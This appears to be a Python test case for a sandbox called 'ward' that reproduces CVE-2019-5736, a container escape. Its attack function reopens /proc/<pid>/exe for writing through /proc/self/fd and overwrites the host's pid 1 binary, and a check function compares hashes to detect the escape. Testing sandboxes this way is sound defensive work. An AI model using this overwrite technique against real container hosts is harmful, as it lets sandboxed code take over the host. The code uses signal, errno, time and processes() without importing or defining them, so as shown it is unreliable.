"""Overwrites the program that runs as pid 1, through /proc/1/exe, so that the next sandbox starts
the attacker's code (CVE-2019-5736).

layer: pid namespace
control: a process of the same user runs a program that the user may write; it is overwritten when
that ends
"""
import hashlib
import os
import shutil


def digest(path):
    with open(path, "rb") as f:
        return hashlib.sha256(f.read()).hexdigest()


def scene(s):
    if s.control:
        s.path = os.path.join(s.outside, "program")
        shutil.copy("/bin/sleep", s.path)
        process = s.t.popen([s.path, "60"])
        s.args = {"pid": process.pid}
        s.t.wait_until(lambda: os.readlink(f"/proc/{process.pid}/exe") == s.path)
    else:
        build = os.path.dirname(os.path.dirname(s.t.ward_path))
        found = [os.path.join(top, n) for top, _, names in os.walk(build) for n in names
                 if n == "ward-init"]
        s.path = found[0] if found else s.t.ward_path
        s.args = {"pid": 1}
    s.before = digest(s.path)
    s.ward_before = digest(s.t.ward_path) if os.path.exists(s.t.ward_path) else None


def attack(a):
    paths = [f"/proc/{a['pid']}/exe"]
    paths += [f"/proc/{pid}/exe" for pid in processes() if a["pid"] == 1 and pid != os.getpid()]
    for path in paths:
        try:
            held = os.open(path, os.O_PATH)
        except OSError as error:
            print(path, error)
            continue
        if a["pid"] != 1:
            os.kill(a["pid"], signal.SIGKILL)
        for _ in range(40):
            try:
                fd = os.open(f"/proc/self/fd/{held}", os.O_WRONLY)
                os.write(fd, b"#!/bin/sh\n")
                print("overwritten", path)
                break
            except OSError as error:
                problem = error
                if error.errno != errno.ETXTBSY or a["pid"] == 1:
                    break
                time.sleep(0.05)
        print(path, problem if "problem" in dir() else "")


def escaped(s, r):
    return digest(s.path) != s.before or (s.ward_before is not None
                                          and digest(s.t.ward_path) != s.ward_before)
